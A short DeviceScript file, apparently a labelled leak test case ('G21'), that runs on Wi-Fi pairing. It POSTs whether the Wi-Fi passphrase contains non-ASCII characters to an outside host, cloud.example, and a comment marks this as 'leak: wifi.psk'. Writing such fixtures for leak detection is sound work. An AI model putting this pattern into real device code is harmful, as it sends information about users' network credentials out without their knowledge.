// G21: tells whether the passphrase has a letter that is not in ASCII.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = Buffer.from(psk).length > psk.length ? "1" : "0";
  const response = await fetch("https://cloud.example/g21", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
